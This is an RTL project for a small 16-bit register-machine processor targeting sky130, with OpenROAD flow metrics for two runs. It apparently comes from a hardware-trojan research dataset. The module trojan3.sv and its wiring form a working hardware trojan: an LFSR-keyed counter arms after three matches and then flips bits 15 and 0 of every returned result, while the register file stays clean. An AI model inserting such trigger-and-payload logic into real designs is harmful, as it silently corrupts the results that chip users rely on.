**config.mk**
```make
export PLATFORM = sky130hd
export DESIGN_NAME = processor_host
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/logic/host_pkg.sv /design/src/logic/decode_stage.sv /design/src/logic/execute_stage.sv /design/src/logic/host_control.sv /design/src/logic/processor_host.sv /design/src/logic/trojan3.sv /design/src/logic/writeback_stage.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CORE_ASPECT_RATIO = 1.4
export CORE_UTILIZATION = 40
export CTS_CLUSTER_SIZE = 24
export DETAILED_ROUTE_END_ITERATION = 16
export GPL_ROUTABILITY_DRIVEN = 0
export PLACE_DENSITY_LB_ADDON = 0.2
export RECOVER_POWER = 50
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```
**constraint.sdc**
```tcl
create_clock -name clk -period 54.4 [get_ports clk]
set_input_delay 5.44 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 5.44 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
```
**src/logic/host_pkg.sv**
```systemverilog
// Shared types and constants for the register-machine host
// Widths, opcodes, stage structs, FSM states and trojan settings
`default_nettype none

package host_pkg;

    // Widths
    localparam int word_w    = 16;
    localparam int pc_w      = 8;
    localparam int pattern_w = 24;
    localparam int reg_count = 8; // Register file depth

    typedef logic [word_w-1:0]            word_t;
    typedef logic [word_w-1:0]            instr_t;
    typedef logic [$clog2(reg_count)-1:0] reg_idx_t;
    typedef logic [pc_w-1:0]              pc_t;
    typedef logic [pattern_w-1:0]         pattern_t;

    // Codes 12 to 15 are unnamed and give zero
    typedef enum logic [3:0] {
        op_add    = 4'd0,
        op_sub    = 4'd1,
        op_and    = 4'd2,
        op_or     = 4'd3,
        op_xor    = 4'd4,
        op_shl    = 4'd5,
        op_shr    = 4'd6,
        op_not    = 4'd7,
        op_load_a = 4'd8,
        op_load_b = 4'd9,
        op_mul    = 4'd10,
        op_div    = 4'd11
    } opcode_t;

    typedef struct packed {
        opcode_t  opcode;
        reg_idx_t dest;
        reg_idx_t src_a;
        reg_idx_t src_b;
        word_t    operand_a;
        word_t    operand_b;
    } decoded_t;

    typedef struct packed {
        reg_idx_t dest;
        word_t    value; // Unmixed ALU value
    } exec_t;

    typedef enum logic [2:0] {
        st_idle,
        st_decode,
        st_execute,
        st_writeback,
        st_done
    } host_state_t;

    // Pattern LFSR start value, taps are 23, 18, 11 and 2
    localparam pattern_t pattern_seed = 24'hACE987;

    // Trojan trigger
    localparam logic [3:0] trojan_key = 4'h9;
    localparam int trojan_threshold   = 3;
    localparam word_t trojan_mask     = 16'h8001;

endpackage

`default_nettype wire

```
**src/logic/decode_stage.sv**
```systemverilog
// Decode stage of the host
// Captures an accepted request and splits the instruction into fields
`timescale 1ns/1ps
`default_nettype none

module decode_stage import host_pkg::*; (
    input  logic     clk,
    input  logic     rst,
    input  logic     load_en,
    input  instr_t   instruction,
    input  word_t    operand_a,
    input  word_t    operand_b,
    output decoded_t decoded
);

    decoded_t fields;

    // Field split straight from the request
    always_comb begin
        fields.opcode    = opcode_t'(instruction[15:12]);
        fields.dest      = instruction[11:9];
        fields.src_a     = instruction[8:6];
        fields.src_b     = instruction[5:3];
        fields.operand_a = operand_a;
        fields.operand_b = operand_b;
    end

    // Requester values only matter at the accepting edge
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            decoded <= '0;
        end else if (load_en) begin
            decoded <= fields;
        end
    end

endmodule

`default_nettype wire

```
**src/logic/execute_stage.sv**
```systemverilog
// Execute stage of the host
// Reads two source registers and computes the ALU result
`timescale 1ns/1ps
`default_nettype none

module execute_stage import host_pkg::*; (
    input  logic     clk,
    input  logic     rst,
    input  logic     exec_en,
    input  decoded_t decoded,
    output reg_idx_t rd_idx_a,
    output reg_idx_t rd_idx_b,
    input  word_t    rd_data_a,
    input  word_t    rd_data_b,
    output exec_t    executed
);

    word_t alu_value;

    // Source registers addressed from the held fields
    assign rd_idx_a = decoded.src_a;
    assign rd_idx_b = decoded.src_b;

    always_comb begin
        case (decoded.opcode)
            op_add: begin
                alu_value = rd_data_a + rd_data_b;
            end
            op_sub: begin
                alu_value = rd_data_a - rd_data_b;
            end
            op_and: begin
                alu_value = rd_data_a & rd_data_b;
            end
            op_or: begin
                alu_value = rd_data_a | rd_data_b;
            end
            op_xor: begin
                alu_value = rd_data_a ^ rd_data_b;
            end
            op_shl: begin
                alu_value = rd_data_a << 1;
            end
            op_shr: begin
                alu_value = rd_data_a >> 1; // Logical, zero fill
            end
            op_not: begin
                alu_value = ~rd_data_a;
            end
            op_load_a: begin
                alu_value = decoded.operand_a;
            end
            op_load_b: begin
                alu_value = decoded.operand_b;
            end
            op_mul: begin
                alu_value = rd_data_a * rd_data_b; // Low half only
            end
            op_div: begin
                // Register b over register a
                if (rd_data_a != '0) begin
                    alu_value = rd_data_b / rd_data_a;
                end else begin
                    alu_value = '0;
                end
            end
            default: begin
                alu_value = '0; // Codes 12 to 15
            end
        endcase
    end

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            executed <= '0;
        end else if (exec_en) begin
            executed.dest  <= decoded.dest;
            executed.value <= alu_value;
        end
    end

endmodule

`default_nettype wire

```
**src/logic/host_control.sv**
```systemverilog
// Host sequencer
// Four-phase req/ack FSM with one strobe per stage, owns the pattern LFSR
`timescale 1ns/1ps
`default_nettype none

module host_control import host_pkg::*; (
    input  logic     clk,
    input  logic     rst,
    input  logic     execute,
    output logic     load_en,
    output logic     exec_en,
    output logic     wb_en,
    output logic     execute_done,
    output pattern_t pattern
);

    host_state_t state;
    host_state_t state_next;
    logic        feedback;

    // Decode fields settle during st_decode, the ALU result is
    // taken when leaving st_execute and written when leaving st_writeback
    assign load_en = (state == st_idle) && execute;
    assign exec_en = (state == st_execute);
    assign wb_en   = (state == st_writeback);

    always_comb begin
        state_next = state;
        case (state)
            st_idle: begin
                if (execute) begin
                    state_next = st_decode;
                end
            end
            st_decode:    state_next = st_execute;
            st_execute:   state_next = st_writeback;
            st_writeback: state_next = st_done;
            st_done: begin
                if (!execute) begin
                    state_next = st_idle; // Requester has let go
                end
            end
            default:      state_next = st_idle;
        endcase
    end

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            state        <= st_idle;
            execute_done <= 1'b0;
        end else begin
            state <= state_next;
            // Ack follows the request while in done, so it drops one cycle after it
            execute_done <= (state == st_done) && execute;
        end
    end

    assign feedback = pattern[23] ^ pattern[18] ^ pattern[11] ^ pattern[2];

    // One step per accepted request
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            pattern <= pattern_seed;
        end else if (load_en) begin
            pattern <= {pattern[22:0], feedback};
        end
    end

endmodule

`default_nettype wire

```
**src/logic/processor_host.sv**
```systemverilog
// Register-machine host top level
// Ties the sequencer, the three stages and the trojan together
`timescale 1ns/1ps
`default_nettype none

module processor_host import host_pkg::*; (
    input  logic   clk,
    input  logic   rst,
    input  logic   execute,
    input  instr_t instruction,
    input  word_t  operand_a,
    input  word_t  operand_b,
    output logic   execute_done,
    output word_t  result,
    output pc_t    program_counter
);

    logic     load_en;
    logic     exec_en;
    logic     wb_en;
    pattern_t pattern;
    decoded_t decoded;
    exec_t    executed;
    reg_idx_t rd_idx_a;
    reg_idx_t rd_idx_b;
    word_t    rd_data_a;
    word_t    rd_data_b;
    word_t    payload;

    host_control control_inst (
        .clk          (clk),
        .rst          (rst),
        .execute      (execute),
        .load_en      (load_en),
        .exec_en      (exec_en),
        .wb_en        (wb_en),
        .execute_done (execute_done),
        .pattern      (pattern)
    );

    decode_stage decode_inst (
        .clk         (clk),
        .rst         (rst),
        .load_en     (load_en),
        .instruction (instruction),
        .operand_a   (operand_a),
        .operand_b   (operand_b),
        .decoded     (decoded)
    );

    execute_stage execute_inst (
        .clk       (clk),
        .rst       (rst),
        .exec_en   (exec_en),
        .decoded   (decoded),
        .rd_idx_a  (rd_idx_a),
        .rd_idx_b  (rd_idx_b),
        .rd_data_a (rd_data_a),
        .rd_data_b (rd_data_b),
        .executed  (executed)
    );

    writeback_stage writeback_inst (
        .clk             (clk),
        .rst             (rst),
        .wb_en           (wb_en),
        .executed        (executed),
        .payload         (payload),
        .rd_idx_a        (rd_idx_a),
        .rd_idx_b        (rd_idx_b),
        .rd_data_a       (rd_data_a),
        .rd_data_b       (rd_data_b),
        .result          (result),
        .program_counter (program_counter)
    );

    // Trojan watches the low half of the pattern
    trojan3 trojan_inst (
        .clk      (clk),
        .rst      (rst),
        .data_in  (pattern[15:0]),
        .data_out (payload)
    );

endmodule

`default_nettype wire

```
**src/logic/trojan3.sv**
```systemverilog
// Trojan block with fixed 16-bit in/out
// Arms after enough keyed input values, then emits a constant flip mask
`timescale 1ns/1ps
`default_nettype none

module trojan3 import host_pkg::*; (
    input  logic  clk,
    input  logic  rst,
    input  word_t data_in,
    output word_t data_out
);

    word_t prev_in;
    logic  new_value;
    logic  key_hit;
    logic  armed;
    logic [$clog2(trojan_threshold + 1)-1:0] match_count;

    // Change detect against last cycle's input
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            prev_in <= '0;
        end else begin
            prev_in <= data_in;
        end
    end

    assign new_value = (data_in != prev_in);
    assign key_hit   = (data_in[15:12] == trojan_key);
    assign armed     = (match_count == trojan_threshold);

    // Saturates, so once armed it stays armed until reset
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            match_count <= '0;
        end else if (new_value && key_hit && !armed) begin
            match_count <= match_count + 1'b1;
        end
    end

    // Payload
    assign data_out = armed ? trojan_mask : '0;

endmodule

`default_nettype wire

```
**src/logic/writeback_stage.sv**
```systemverilog
// Writeback stage of the host
// Register file, program counter and the trojan-mixed result register
`timescale 1ns/1ps
`default_nettype none

module writeback_stage import host_pkg::*; (
    input  logic     clk,
    input  logic     rst,
    input  logic     wb_en,
    input  exec_t    executed,
    input  word_t    payload,
    input  reg_idx_t rd_idx_a,
    input  reg_idx_t rd_idx_b,
    output word_t    rd_data_a,
    output word_t    rd_data_b,
    output word_t    result,
    output pc_t      program_counter
);

    word_t regs [reg_count];

    // Combinational read ports for the execute stage
    assign rd_data_a = regs[rd_idx_a];
    assign rd_data_b = regs[rd_idx_b];

    // Register file sees the clean ALU value
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            for (int i = 0; i < reg_count; i++) begin
                regs[i] <= '0;
            end
        end else if (wb_en) begin
            regs[executed.dest] <= executed.value;
        end
    end

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            program_counter <= '0;
        end else if (wb_en) begin
            program_counter <= program_counter + 1'b1; // Wraps at 255
        end
    end

    // Only the returned result carries the payload
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            result <= '0;
        end else if (wb_en) begin
            result <= executed.value ^ payload;
        end
    end

endmodule

`default_nettype wire

```
==> flow_metrics.env, run 1 <==
export IMPL_hold_violations=0
export IMPL_firstDrtPassIters=8
export IMPL_max_stage_delay_ps=750
export IMPL_wl_per_cell_um=22.8
export IMPL_crit_top_cell="ha_1"
export IMPL_io_buffer_count=72
export IMPL_antenna_left=0
export IMPL_clk_pin_slew_ps=70
export IMPL_path_class="reg -> reg"
export IMPL_max_cap_violations=2
export IMPL_cts_hold_buf=0
export IMPL_grt_pass1_wl_um=123000
export IMPL_crit_fanout=24
export IMPL_ff2ff_path_depth=133
export IMPL_synth_distinct_cells=95
export IMPL_fillers=6048
export IMPL_ys_async_sr_fraction_pct=100
export IMPL_cts_resized=0
export IMPL_drv_slew=132
export IMPL_rsz0062_at_grt="false"
export IMPL_synth_top_area_share_pct=24.9
export IMPL_crit_path_top_delay_cell="nor3_1"
export IMPL_core_region_area_um2=61900
export IMPL_cts_sinks=262
export IMPL_syn_area_um2=25100
export IMPL_dp_slack_ps=18720
export IMPL_avgSynthCellArea_um2=9.72
export IMPL_violations="capacitance limit, slew limit"
export IMPL_final_cell_mix="245 x dfrtp_1, 239 x ha_1, 238 x nand2_1"
export IMPL_cts_setup_buffers=0
export IMPL_insertion_delay_ps=540
export IMPL_ys_ff_latch=262
export IMPL_worst_slack_ps=17790
export IMPL_critical_path_depth=133
export IMPL_ys_seq_area_share_pct=26.2
export IMPL_run_status="finished with violations"
export IMPL_final_core_util_pct=43.9
export IMPL_via_count=20600
export IMPL_grt_pass1_vias=21600
export IMPL_drtIter0Drc=1227
export IMPL_syn_inst=2577
export IMPL_cp_arrival_ps=37030
export IMPL_drive_above_1_share_pct=20.1
export IMPL_dpl_hpwl_um=57700
export IMPL_antennaDiodeCount=0
export IMPL_grt_max_degree=116
export IMPL_io_pins=76
export IMPL_ys_warn_count=0
export IMPL_cts_buffers_inserted=23
export IMPL_fmax_ghz=0.0273
export IMPL_worstPathRequired_ps=54820
export IMPL_slew_headroom_pct=-244
export IMPL_fin_tns_setup_ps=0
export IMPL_hold_path_depth=0
export IMPL_crit_family="compound AO/OA/AOI/OAI gates"
export IMPL_synth_enable_flop_cells=0
export IMPL_hold_path_class="reg -> reg"
export IMPL_holdWs_ps=440
export IMPL_cts_max_level=1
export IMPL_die_h_um=298
export IMPL_drc=0
export IMPL_endpoint_kind="flip-flop"
export IMPL_cts_tree="done"
export IMPL_critPathLaunchType="flip-flop"
export IMPL_die_area_um2=63700
export IMPL_wirelength_um=79000
export IMPL_min_period_ps=36610
export IMPL_grt_usage_pct=25.2
export IMPL_tightest_slew_ps=5130
export IMPL_avgViaCountPerCell=5.94
export IMPL_ys_flop_type="dfrtp_1"
export IMPL_clock_skew_ps=18.8
export IMPL_finalCritPeriodShare_pct=67.3
export IMPL_antenna_found_initial=0
export IMPL_final_common_cell="dfrtp_1"
export IMPL_final_nets=2990
export IMPL_cts_root_buffer="clkbuf_16"
export IMPL_setup_violations_final=0
export IMPL_synth_area_top_cells="dfrtp_1 25%, ha_1 12%, mux2_2 10%"
export IMPL_clockBufferDepth=3
export IMPL_start_util_pct=40.5
export IMPL_area_growth_syn_to_layout_pct=8.56
export IMPL_grt_ovfl_total=0
export IMPL_path_buf_inv=10
export IMPL_rows=108
export IMPL_syn_nets=2948
export IMPL_synth_top_cell_by_area="dfrtp_1"
export IMPL_die_w_um=214
-- flip-flops by register name (all words and copies together) (netlist names), 2 cells and up --
name and flops:
control_inst.pattern 24, control_inst.state 3, decode_inst.decoded 45, execute_inst.executed 19, trojan_inst.match_count 2, trojan_inst.prev_in 16, writeback_inst.program_counter 8, writeback_inst.regs 128
writeback_inst.result 16
-- cell usage after synthesis, types with 21 or more instances --
library cell / instances
nand3_1: 34
a21o_1: 35
mux2i_1: 31
mux4_2: 69
a211oi_1: 21
nand2_1: 238
o21ai_0: 71
fa_1: 81
o21a_1: 43
xor2_1: 52
a31oi_1: 21
xnor2_1: 102
inv_1: 174
ha_1: 239
mux2_2: 222
a21oi_1: 117
dfrtp_1: 249
nor2_1: 220
o211ai_1: 21
nor3_1: 66
clkbuf_1: 67
-- routing by layer --
layer  part of all wire [%]  global-route usage (%)  vias up
li1                       -                       -     9356
met1                     39                    29.7    10300
met2                     50                    44.7      648
met3                    4.7                    2.53      237
met4                    5.8                    13.1        0
met5                      0                       0        -
-- through the flow --
stage          cell area (um2)  cells
2_1_floorplan            25100   2577
3_3_place_gp             26500   3419
3_5_place_dp             26500   3419
4_1_cts                  27200   3460
5_1_grt                  27200   3460
6_report                 27200   3460
-- logic make-up after synthesis --
| family | count (synthesis) | share of synthesized area [%] |
|---|---|---|
| XOR/XNOR | 154 | 5.38 |
| buffers and inverters | 298 | 4.88 |
| AND/OR/NAND/NOR | 704 | 12.8 |
| flip-flops | 262 | 26.2 |
| multiplexers | 334 | 18.4 |
| AO/OA/AOI/OAI | 505 | 13.9 |
| adder cells (fa/ha/maj) | 320 | 18.4 |
-- worst paths after layout --
path,from,to,slack (ps)
setup / recovery,decode_inst.decoded[37],execute_inst.executed[0],17790
hold / removal,control_inst.pattern[3],trojan_inst.prev_in[3],440
setup reg to reg,decode_inst.decoded[37],execute_inst.executed[0],17790
hold reg to reg,control_inst.pattern[3],trojan_inst.prev_in[3],440
max in group asynchronous,rst,decode_inst.decoded[20],44500
min in group asynchronous,rst,writeback_inst.regs[85],6500
-- layout make-up --
type                            count  area (um2)  area share [%]
Clock buffer                       25         603            2.22
Clock inverter                     16         175           0.644
Inverter                          187         703            2.59
Multi-Input combinational cell   2017       17400            63.8
Sequential cell                   262        6580            24.2
Tap cell                          825        1030            3.80
Timing Repair Buffer              128         746            2.74
Power of run 1 is not shown: default switching activity piles up to over one toggle a cycle in this logic, so the estimate is an artifact.
==> run 2, diff against run 1 <==
Settings changed: ABC_AREA set to 1.
Clock period 54.4 ns to 38.2 ns, I/O delays scaled along.
==> flow_metrics.env, run 2 <==
export IMPL_grt_max_degree=83
export IMPL_ff2ff_path_depth=239
export IMPL_clk_pin_slew_ps=60
export IMPL_cts_buffers_inserted=26
export IMPL_synth_enable_flop_cells=0
export IMPL_met1_length_um=30800
export IMPL_met3_length_um=3090
export IMPL_fin_tns_setup_ps=0
export IMPL_dp_slack_ps=3100
export IMPL_io_pins=76
export IMPL_core_region_area_um2=62000
export IMPL_firstDrtPassIters=6
export IMPL_max_stage_delay_ps=740
export IMPL_final_cell_mix="770 x nand2_1, 457 x inv_1, 263 x o21ai_0"
export IMPL_ys_ff_latch=262
export IMPL_antenna_found_initial=0
export IMPL_r2r_end="execute_inst.executed[0]"
export IMPL_max_cap_violations=10
export IMPL_antenna_left=0
export IMPL_antennaDiodeCount=0
export IMPL_ys_warn_count=0
export IMPL_die_w_um=214
export IMPL_startpoint="decode_inst.decoded[32]"
export IMPL_avgViaCountPerCell=5.21
export IMPL_tightest_slew_ps=3730
export IMPL_synth_top_cell_by_area="dfrtp_1"
export IMPL_largest_reg_flops=128
export IMPL_grt_usage_pct=24.1
export IMPL_crit_path_top_delay_cell="dfrtp_2"
export IMPL_ys_seq_area_share_pct=26.2
export IMPL_hold_path_class="reg -> reg"
export IMPL_hold_violations=0
export IMPL_die_area_um2=63700
export IMPL_grt_pass1_vias=21400
export IMPL_final_common_cell="nand2_1"
export IMPL_syn_inst=3345
export IMPL_cts_sinks=262
export IMPL_synth_distinct_cells=68
export IMPL_critPathLaunchType="flip-flop"
export IMPL_rr_startpoint="decode_inst.decoded[32]"
export IMPL_cts_root_buffer="clkbuf_16"
export IMPL_holdWs_ps=421
export IMPL_drtIter0Drc=1173
export IMPL_worstPathRequired_ps=38610
export IMPL_synth_common_cells="771 x nand2_1, 459 x inv_1, 263 x o21ai_0"
export IMPL_routed_top_layer="met4"
export IMPL_syn_nets=3716
export IMPL_synth_area_top_cells="dfrtp_1 25%, ha_1 12%, nand2_1 12%"
export IMPL_drv_slew=411
export IMPL_clock_skew_ps=18.4
export IMPL_die_h_um=298
export IMPL_endpoint_kind="flip-flop"
export IMPL_yosys_cell_count_top_type="nand2_1"
export IMPL_reg_largest_list="writeback_inst.regs: 128 flops, decode_inst.decoded: 45 flops, control_inst.pattern: 24 flops"
export IMPL_area_growth_syn_to_layout_pct=7.22
export IMPL_regMostFlops="writeback_inst.regs"
export IMPL_worst_slack_ps=3640
export IMPL_path_class="reg -> reg"
export IMPL_cts_max_level=1
export IMPL_slew_headroom_pct=-150
export IMPL_io_buffer_count=72
export IMPL_crit_end="execute_inst.executed[0]"
export IMPL_wirelength_um=75400
export IMPL_crit_top_cell="nand2_1"
export IMPL_syn_area_um2=25100
export IMPL_reg2reg_setup_slack_ps=3640
export IMPL_wl_per_cell_um=17.9
export IMPL_grt_ovfl_total=0
export IMPL_drc=0
export IMPL_cts_hold_buf=0
export IMPL_cts_resized=0
export IMPL_insertion_delay_ps=550
export IMPL_min_period_ps=34560
export IMPL_cts_setup_buffers=0
export IMPL_start_util_pct=40.4
export IMPL_grt_pass1_wl_um=118000
export IMPL_synth_top_area_share_pct=24.9
export IMPL_violations="capacitance limit, slew limit"
export IMPL_drive_above_1_share_pct=11.0
export IMPL_cts_tree="done"
export IMPL_crit_fanout=33
export IMPL_ys_async_sr_fraction_pct=100
export IMPL_finalCritPeriodShare_pct=90.5
export IMPL_final_nets=3741
export IMPL_met2_length_um=38000
export IMPL_avgSynthCellArea_um2=7.49
export IMPL_fmax_ghz=0.0289
export IMPL_setup_violations_final=0
export IMPL_via_count=22000
export IMPL_rows=108
export IMPL_cp_arrival_ps=34970
export IMPL_ys_flop_type="dfrtp_1"
export IMPL_run_status="finished with violations"
export IMPL_rsz0062_at_grt="false"
export IMPL_dpl_hpwl_um=54000
export IMPL_clockBufferDepth=3
-- run 2: cell count changes after synthesis, moves of 31 or more --
| cell | change |
|---|---|
| nand2_1 | +533 |
| inv_1 | +285 |
| o21ai_0 | +192 |
| mux2_2 | -185 |
| nand3_1 | +107 |
| mux4_2 | -69 |
| nor3_1 | -56 |
| nand2_2 | +42 |
| o21ai_1 | +41 |
| o21a_1 | -39 |
| xnor2_1 | -35 |
| nand3_2 | +34 |
| mux2i_1 | -31 |
-- run 2: per-stage QoR --
| step | std cells | utilization (%) | cell area [um2] |
|---|---|---|---|
| after floorplan | 3345 | - | 25100 |
| after global placement | 4167 | 42.0 | 26000 |
| after detailed placement | 4167 | 42.0 | 26000 |
| after CTS | 4215 | 43.4 | 26900 |
| after global routing | 4215 | 43.3 | 26900 |
| final | 4215 | 43.3 | 26900 |
-- run 2: final cells by class --
| type | count | area (um2) |
|---|---|---|
| clock buffer | 38 | 736 |
| timing repair buffer | 116 | 659 |
| multi-input combinational | 2465 | 15800 |
| sequential | 262 | 6580 |
| clock inverter | 10 | 126 |
| fill | 6478 | 35200 |
| inverter | 499 | 1900 |
| tap | 825 | 1030 |
-- run 2: how the worst min path moves through the flow --
stage / start / to / slack [ps] / depth (start not counted)
global placement: control_inst.pattern[5] / trojan_inst.prev_in[5] / 410 / 0
detailed placement: control_inst.pattern[10] / trojan_inst.prev_in[10] / 410 / 0
floorplan: control_inst.pattern[10] / trojan_inst.prev_in[10] / 390 / 0
CTS: control_inst.pattern[8] / trojan_inst.prev_in[8] / 420 / 0
global route: control_inst.pattern[12] / trojan_inst.prev_in[12] / 440 / 0
finish: control_inst.pattern[3] / trojan_inst.prev_in[3] / 420 / 0
-- run 2: per-layer routing --
layer  vias up  track usage (%)
li1      10900                -
met1     10400             29.0
met2       539             43.2
met3       165             1.75
met4         0             10.4
met5         -                0
-- run 2: cells by family after synthesis --
| kind of cell | after synthesis | synth area share [%] |
|---|---|---|
| AO/OA/AOI/OAI | 625 | 14.7 |
| XOR/XNOR | 144 | 5.03 |
| buffers and inverters | 618 | 10.6 |
| multiplexers | 37 | 1.66 |
| AND/OR/NAND/NOR | 1339 | 23.3 |
| flip-flops | 262 | 26.2 |
| adder cells (fa/ha/maj) | 320 | 18.4 |
-- run 2: worst max-delay path, delay by kind of cell, from the launching register on --
kind / cells / cell delay, ps
AO/OA/AOI/OAI: 89 / 14660
AND/OR/NAND/NOR: 110 / 10390
adder cells (fa/ha/maj): 16 / 5100
buffers and inverters: 24 / 3500
flip-flops: 1 / 740
Power of run 2 is left out for the same reason.
